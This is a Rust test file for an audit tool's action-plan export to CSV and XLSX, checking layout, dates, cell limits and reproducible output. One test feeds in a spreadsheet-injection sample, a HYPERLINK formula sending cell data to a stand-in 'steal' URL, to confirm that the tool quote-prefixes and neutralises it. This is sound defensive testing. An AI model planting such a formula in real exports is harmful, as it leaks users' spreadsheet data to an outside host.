//! The action plan: in the JSON report, in the self-assessment, and as the
//! CSV and XLSX that `ivaudit audit --out plan.csv|plan.xlsx` writes for a
//! service to track in a spreadsheet.

use assert_cmd::Command;
use calamine::{Data, Reader, Xlsx};
use serde_json::Value;
use std::io::{Cursor, Read};
use std::path::{Path, PathBuf};
use std::time::Duration;

use ivaudit::date::Date;
use ivaudit::report::actions::COLUMNS;

fn ivaudit() -> Command {
    let mut cmd = Command::cargo_bin("ivaudit").unwrap();
    cmd.timeout(Duration::from_secs(60));
    cmd
}

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

fn example(name: &str) -> PathBuf {
    root().join("examples").join(name)
}

fn fixture(name: &str) -> PathBuf {
    root().join("tests/fixtures").join(name)
}

/// Runs `ivaudit audit BUNDLE ARGS...`, which must succeed, and gives its
/// standard output.
fn audit(bundle: &Path, args: &[&str]) -> Vec<u8> {
    let out = ivaudit().arg("audit").arg(bundle).args(args).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    out.stdout
}

fn json(bundle: &Path) -> Value {
    serde_json::from_slice(&audit(bundle, &["--format", "json"])).unwrap()
}

/// Writes the plan to `name` in a new folder and gives its bytes.
fn written(bundle: &Path, name: &str, args: &[&str]) -> Vec<u8> {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join(name);
    let run = ivaudit().arg("audit").arg(bundle).arg("--out").arg(&out).args(args).output().unwrap();
    assert!(run.status.success(), "{}", String::from_utf8_lossy(&run.stderr));
    std::fs::read(&out).unwrap()
}

/// The CSV as rows of cells, after checking the bytes are as Excel in the
/// UK expects them: a UTF-8 byte-order mark, every line ended CRLF.
fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    assert!(bytes.starts_with("\u{feff}".as_bytes()), "no byte-order mark");
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    assert!(text.ends_with("\r\n"));
    assert!(!text.replace("\r\n", "").contains(['\n', '\r']), "a line end that is not CRLF");
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect()
}

/// How many findings are not strengths: the number of actions.
fn actions_in(report: &Value) -> usize {
    report["findings"].as_array().unwrap().iter().filter(|f| f["kind"] != "strength").count()
}

fn zip_part(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut text = String::new();
    archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
    text
}

/// Excel's serial number for a date (days since 30 December 1899).
fn excel_serial(d: Date) -> f64 {
    (d.to_days() + 25_569) as f64
}

#[test]
fn json_carries_the_action_plan_with_iso_dates() {
    let report = json(&example("provider-bundle"));
    let plan = report["action_plan"].as_array().unwrap();
    assert_eq!(plan.len(), actions_in(&report));
    let first = &plan[0];
    assert_eq!(first["reference"], "A01");
    assert_eq!(first["kind"], "priority_action", "most serious first");
    assert_eq!(first["target_date"], "2026-06-30", "3 months from the as-of date, ISO in JSON");
    assert_eq!(first["status"], "Open");
    assert_eq!(first["requirement"], "S05.P1");
    assert_eq!(first["requirement_words"], "Standard 5, provider obligation 1");
    assert_eq!(first["owner"], "IV service manager");
    // The register rows the finding rests on are cited beside the documents.
    let evidence = first["evidence"].as_array().unwrap();
    assert!(
        evidence.iter().any(|e| e["path"] == "registers/volunteers.csv" && e["location"] == "line 19"),
        "{evidence:?}"
    );
    assert!(evidence.iter().any(|e| e["path"] == "policies/volunteer-recruitment-policy.md"));
    let references: Vec<&str> = plan.iter().map(|a| a["reference"].as_str().unwrap()).collect();
    let expected: Vec<String> = (1..=plan.len()).map(|i| format!("A{i:02}")).collect();
    assert_eq!(references, expected);
}

#[test]
fn an_authoritys_actions_go_to_authority_roles() {
    let report = json(&example("authority-bundle"));
    let owners: Vec<&str> =
        report["action_plan"].as_array().unwrap().iter().map(|a| a["owner"].as_str().unwrap()).collect();
    assert!(!owners.is_empty());
    assert!(
        owners
            .iter()
            .all(|o| *o == "Commissioning manager (local authority)" || *o == "Team manager, children looked after"),
        "{owners:?}"
    );
    assert!(owners.contains(&"Commissioning manager (local authority)"));
    assert!(owners.contains(&"Team manager, children looked after"));
}

#[test]
fn csv_of_each_example_has_one_row_per_action() {
    for (bundle, role_owner) in [("provider-bundle", "IV "), ("authority-bundle", "")] {
        let bundle = example(bundle);
        let report = json(&bundle);
        let rows = csv_rows(&written(&bundle, "plan.csv", &[]));
        assert_eq!(rows[0], COLUMNS, "header row");
        assert_eq!(rows.len() - 1, actions_in(&report), "{}", bundle.display());
        for (row, action) in rows[1..].iter().zip(report["action_plan"].as_array().unwrap()) {
            assert_eq!(row[0], action["reference"].as_str().unwrap());
            assert_eq!(row[8], "Open");
            assert!(row[6].starts_with(role_owner), "{row:?}");
            // dd/mm/yyyy, the same day as the ISO date in JSON.
            let iso = action["target_date"].as_str().unwrap();
            assert_eq!(row[7], format!("{}/{}/{}", &iso[8..10], &iso[5..7], &iso[0..4]));
        }
    }
}

#[test]
fn csv_says_plainly_when_no_evidence_is_in_the_bundle() {
    let rows = csv_rows(&audit(&fixture("clean"), &["--format", "csv"]));
    let s12 = rows.iter().find(|r| r[2].starts_with("S12.P1:")).expect("an action on S12.P1");
    assert_eq!(s12[5], "No evidence in the bundle");
    assert_eq!(s12[2], "S12.P1: Standard 12, provider obligation 1");
    assert_eq!(s12[1], "Standard 12: Appropriate resourcing");
}

#[test]
fn csv_cells_never_start_a_formula() {
    let rows = csv_rows(&audit(&fixture("formulas"), &["--format", "csv"]));
    let evidence_of = |id: &str| -> String {
        rows.iter()
            .find(|r| r[2].starts_with(&format!("{id}:")) && r[5] != "No evidence in the bundle")
            .unwrap_or_else(|| panic!("an action on {id} citing evidence"))[5]
            .clone()
    };
    assert!(
        evidence_of("S05.P1").starts_with("'=HYPERLINK(\"http://example.invalid/steal?d=\"&A1,"),
        "{}",
        evidence_of("S05.P1")
    );
    assert!(evidence_of("S11.P1").starts_with("'-1+1 (policies/b-arithmetic.md)"));
    assert!(evidence_of("S14.P1").starts_with("'+44 complaints line card"));
    // The escape character in the title is shown, not obeyed.
    assert!(evidence_of("S03.P1").starts_with("'@SUM(1+1)\\u{1b}[2J"), "{}", evidence_of("S03.P1"));
    for row in &rows {
        for cell in row {
            assert!(!ivaudit::report::actions::starts_formula(cell), "{cell:?} starts a formula");
            assert!(!cell.chars().any(ivaudit::text::is_control), "{cell:?} holds a control character");
        }
    }
}

#[test]
fn xlsx_of_each_example_reads_back_as_the_plan() {
    for bundle in ["provider-bundle", "authority-bundle"] {
        let bundle = example(bundle);
        let report = json(&bundle);
        let bytes = written(&bundle, "plan.xlsx", &[]);
        let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
        assert_eq!(book.sheet_names(), ["Action plan"]);
        let range = book.worksheet_range("Action plan").unwrap();
        let rows: Vec<&[Data]> = range.rows().collect();
        let header: Vec<String> = rows[0].iter().map(|c| c.to_string()).collect();
        assert_eq!(header, COLUMNS);
        let plan = report["action_plan"].as_array().unwrap();
        assert_eq!(rows.len() - 1, actions_in(&report), "{}", bundle.display());
        for (row, action) in rows[1..].iter().zip(plan) {
            assert_eq!(row[0], Data::String(action["reference"].as_str().unwrap().to_string()));
            // The target date is a real date, not text.
            let due: Date = action["target_date"].as_str().unwrap().parse().unwrap();
            match &row[7] {
                Data::DateTime(d) => assert_eq!(d.as_f64(), excel_serial(due), "{}", action["reference"]),
                other => panic!("target date is {other:?}, not a date"),
            }
            assert_eq!(row[8], Data::String("Open".into()));
        }
        // No cell is a formula.
        let formulas = book.worksheet_formula("Action plan").unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a formula in the workbook");
        // The header row is frozen, the table filtered, dates shown day first
        // and the action and evidence columns wrapped.
        let sheet = zip_part(&bytes, "xl/worksheets/sheet1.xml");
        assert!(
            sheet.contains(r#"<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>"#),
            "{sheet}"
        );
        assert!(sheet.contains(&format!(r#"<autoFilter ref="A1:I{}"/>"#, plan.len() + 1)), "{sheet}");
        let styles = zip_part(&bytes, "xl/styles.xml");
        assert!(styles.contains(r#"formatCode="dd/mm/yyyy""#), "{styles}");
        assert!(styles.contains(r#"wrapText="1""#), "{styles}");
        assert!(styles.contains("<b/>"), "a bold header: {styles}");
    }
}

#[test]
fn xlsx_cells_never_start_a_formula() {
    let bytes = audit(&fixture("formulas"), &["--format", "xlsx"]);
    let bytes_again = bytes.clone();
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes)).unwrap();
    let range = book.worksheet_range("Action plan").unwrap();
    let evidence: Vec<String> = range.rows().skip(1).map(|r| r[5].to_string()).collect();
    // Shown as typed, with no visible apostrophe: each is a string cell
    // whose style carries Excel's quote prefix, so it stays text.
    assert!(evidence.iter().any(|e| e.starts_with("=HYPERLINK(")), "{evidence:?}");
    assert!(evidence.iter().any(|e| e.starts_with("-1+1")), "{evidence:?}");
    let styles = zip_part(&bytes_again, "xl/styles.xml");
    assert!(styles.contains(r#"quotePrefix="1""#), "{styles}");
    let sheet = zip_part(&bytes_again, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>"), "no formula in the sheet");
    let formulas = book.worksheet_formula("Action plan").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "a formula in the workbook");
}

/// Regression: rust_xlsxwriter stamps the clock's time into
/// docProps/core.xml unless told otherwise, so two runs differed.
#[test]
fn xlsx_and_csv_are_byte_identical_across_runs() {
    let bundle = example("provider-bundle");
    for name in ["plan.xlsx", "plan.csv"] {
        let first = written(&bundle, name, &[]);
        std::thread::sleep(Duration::from_millis(1100));
        let second = written(&bundle, name, &[]);
        assert!(first == second, "{name} differs between two runs");
    }
    let xlsx = written(&bundle, "plan.xlsx", &["--as-of", "2026-02-28"]);
    let core = zip_part(&xlsx, "docProps/core.xml");
    assert!(core.contains(">2026-02-28T00:00:00Z</dcterms:created>"), "{core}");
}

/// `script` (util-linux) gives the command a terminal as its standard output.
#[cfg(target_os = "linux")]
#[test]
fn xlsx_to_a_terminal_is_refused_and_to_a_pipe_is_written() {
    let piped = audit(&example("provider-bundle"), &["--format", "xlsx"]);
    assert!(piped.starts_with(b"PK\x03\x04"), "a zip archive on the pipe");
    let command =
        format!("{} audit {} --format xlsx", env!("CARGO_BIN_EXE_ivaudit"), example("provider-bundle").display());
    let out = std::process::Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .output()
        .expect("util-linux's `script`, to run ivaudit on a terminal");
    let shown = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(2), "{shown}");
    assert!(shown.contains("--out plan.xlsx"), "{shown}");
    assert!(!shown.contains("PK\u{3}\u{4}"), "workbook bytes reached the terminal");
}

#[test]
fn other_commands_refuse_csv_and_xlsx_and_write_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let authority = example("authority-bundle");
    let cases: Vec<(Vec<&str>, PathBuf)> = vec![
        (vec!["commission", "--document", "plan", "--out"], dir.path().join("plan.csv")),
        (vec!["commission", "--document", "needs-analysis", "--out"], dir.path().join("needs.xlsx")),
        (vec!["eligibility", "--out"], dir.path().join("eligibility.xlsx")),
    ];
    for (args, out) in cases {
        let run = ivaudit().arg(args[0]).arg(&authority).args(&args[1..]).arg(&out).output().unwrap();
        let stderr = String::from_utf8_lossy(&run.stderr);
        assert_eq!(run.status.code(), Some(2), "{stderr}");
        assert!(stderr.contains("writes md, html, docx or json"), "{stderr}");
        assert!(stderr.contains("`ivaudit audit`"), "{stderr}");
        assert!(!out.exists(), "{} was written", out.display());
    }
    let run = ivaudit().args(["eligibility"]).arg(&authority).args(["--format", "csv"]).output().unwrap();
    assert_eq!(run.status.code(), Some(2));
    assert!(run.stdout.is_empty());
    assert!(
        String::from_utf8_lossy(&run.stderr)
            .contains("--format csv: `ivaudit eligibility` writes md, html, docx or json")
    );
}

#[test]
fn csv_of_the_provider_example() {
    let bytes = audit(&example("provider-bundle"), &["--format", "csv"]);
    // BOM and CRLF are asserted by csv_rows; the snapshot reads as lines.
    csv_rows(&bytes);
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap().replace("\r\n", "\n");
    insta::assert_snapshot!(text);
}

/// The self-assessment's action plan section, as Markdown.
#[test]
fn self_assessment_action_plan_section() {
    let md = String::from_utf8(audit(&example("provider-bundle"), &["--report", "self-assessment"])).unwrap();
    let start = md.find("## Action plan").expect("an Action plan section");
    let end = md[start..].find("\n## ").map_or(md.len(), |i| start + i);
    insta::assert_snapshot!(&md[start..end]);
}

#[test]
fn self_assessment_html_action_plan_is_a_table_with_headers() {
    let html =
        String::from_utf8(audit(&example("provider-bundle"), &["--report", "self-assessment", "--format", "html"]))
            .unwrap();
    let start = html.find(r#"<h2 id="actions">Action plan</h2>"#).expect("an Action plan section");
    let end = start + html[start..].find("</section>").unwrap();
    let section = &html[start..end];
    // A region a keyboard can scroll (axe: scrollable-region-focusable).
    assert!(
        section
            .contains(r#"<div class="table-scroll" role="region" aria-labelledby="action-plan-caption" tabindex="0">"#)
    );
    // One row for each action the JSON report carries.
    let actions = json(&example("provider-bundle"))["action_plan"].as_array().unwrap().len();
    assert!(actions > 20, "the example has much to do: {actions}");
    assert!(
        section.contains(&format!(
            r#"<caption id="action-plan-caption">Action plan ({actions} actions, most serious first)</caption>"#
        )),
        "{section}"
    );
    for col in ["Reference", "Action", "Requirement", "Severity", "Suggested owner", "Target date", "Status"] {
        assert!(section.contains(&format!(r#"<th scope="col">{col}</th>"#)), "{col}");
    }
    assert!(section.contains(r#"<th scope="row">A01</th>"#));
    assert!(section.contains("<td>30 June 2026</td>"), "dates as UK readers write them");
    assert_eq!(section.matches("<tr class=").count(), actions);
}

/// A bundle of 40 documents, each with a long title, all linked to
/// standard 5: its findings run past the 32,767 characters an Excel cell
/// holds, and its actions would list every document.
fn crowded_bundle() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("bundle.yaml"),
        "organisation: Crowded Service\nrole: provider\nperiod: {from: 2025-04-01, to: 2026-03-31}\nas_of: 2026-03-31\n",
    )
    .unwrap();
    let long = "recruitment ".repeat(90);
    for n in 0..40 {
        std::fs::write(
            dir.path().join(format!("policy-{n:02}.md")),
            format!(
                "---\ntitle: Policy {n:02} {long}\nevidences: [S05]\nkind: policy\nissued: 2025-05-01\n---\n# Policy\n\nA placeholder.\n"
            ),
        )
        .unwrap();
    }
    dir
}

#[test]
fn a_plan_past_excels_cell_limit_is_cut_not_refused() {
    let bundle = crowded_bundle();
    let report = json(bundle.path());
    let s05 = report["action_plan"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["requirement"] == "S05.P2")
        .expect("an action on S05.P2");
    assert_eq!(s05["evidence"].as_array().unwrap().len(), ivaudit::report::actions::EVIDENCE_PER_ACTION);
    assert_eq!(s05["evidence_more"], 40 - ivaudit::report::actions::EVIDENCE_PER_ACTION);
    let long_action =
        report["action_plan"].as_array().unwrap().iter().any(|a| a["action"].as_str().unwrap().len() > 33_000);
    assert!(long_action, "the fixture must give a finding longer than a cell holds");

    let xlsx = written(bundle.path(), "plan.xlsx", &[]);
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(xlsx)).unwrap();
    let range = book.worksheet_range("Action plan").unwrap();
    let mut cut = 0;
    for row in range.rows() {
        for cell in row {
            let text = cell.to_string();
            assert!(text.encode_utf16().count() <= 32_767);
            cut += usize::from(text.ends_with("(cut: see the report)"));
        }
    }
    assert!(cut > 0, "no cell was cut");
    let rows = csv_rows(&written(bundle.path(), "plan.csv", &[]));
    let evidence = &rows.iter().find(|r| r[2].starts_with("S05.P2:")).unwrap()[5];
    assert!(
        evidence.ends_with("; and 15 more documents linked to the requirement (listed in the report)"),
        "{evidence}"
    );
}

#[test]
fn an_xlsx_workbook_is_not_rendered_as_a_string() {
    use ivaudit::report::{Format, ReportKind, Templates, render};
    let catalog = ivaudit::catalog::Catalog::load(&ivaudit::catalog::CatalogSource::Embedded).unwrap();
    let audit = ivaudit::audit(&catalog, &example("provider-bundle"), None).unwrap();
    let err = render(
        &audit.report,
        ReportKind::Inspection,
        Format::Xlsx,
        &Templates::Embedded,
        &ivaudit::locale::Messages::english(),
    )
    .unwrap_err();
    assert!(err.to_string().contains("render_to"), "{err}");
    let csv = render(
        &audit.report,
        ReportKind::SelfAssessment,
        Format::Csv,
        &Templates::Embedded,
        &ivaudit::locale::Messages::english(),
    )
    .unwrap();
    assert!(csv.starts_with("\u{feff}Reference,"));
}

/// The plan once named statutory duties in its own words ("statutory duty
/// under paragraph 334 of the Part 6 Code of Practice") while the report
/// said "statutory duty (Code of Practice, paragraph 334)": an inspector
/// matching the two found different names for one requirement.
#[test]
fn action_plan_names_requirements_and_standards_as_the_report_does() {
    let mut statutory = 0;
    for bundle in [example("provider-bundle"), example("authority-bundle"), fixture("mixed")] {
        let report = json(&bundle);
        let findings = report["findings"].as_array().unwrap();
        for action in report["action_plan"].as_array().unwrap() {
            let Some(id) = action["requirement"].as_str() else { continue };
            let finding = findings.iter().find(|f| f["requirement"] == id).unwrap();
            assert_eq!(action["requirement_words"], finding["requirement_label"], "{} {id}", bundle.display());
            assert_eq!(action["standard_title"], finding["standard_title"], "{} {id}", bundle.display());
            statutory += usize::from(id.starts_with("CoP."));
        }
    }
    assert!(statutory > 0, "a plan with a statutory duty was compared");
}
